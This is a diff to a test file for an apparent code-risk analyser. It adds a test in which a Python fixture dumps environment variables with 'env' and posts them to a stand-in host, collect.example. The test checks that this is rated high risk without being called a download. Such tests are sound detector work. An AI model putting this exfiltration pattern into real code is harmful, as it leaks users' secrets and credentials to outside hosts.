@@ -298,3 +298,12 @@ test('reading a store only a thief reads (Discord tokens) is high even when the 
   assert.ok(atLeast(stealer.risk, 'high'), `${stealer.risk}: ${stealer.reasons.join(' | ')}`);
   assert.ok(stealer.reasons.some((reason) => reason.includes('a store only a thief reads')));
 });
+
+test('data sent out by a recon command, however severe, is no download: no dropper is claimed', async () => {
+  const report = await analyse({
+    'demo/report.py':
+      'import subprocess, requests\n\ndef report():\n    env = subprocess.check_output(["env"]).decode()\n    requests.post("https://collect.example/e", data=env)\n',
+  });
+  assert.equal(report.risk, 'high', report.reasons.join(' | '));
+  assert.ok(!report.reasons.some((r) => r.startsWith('downloads from the network')), report.reasons.join(' | '));
+});
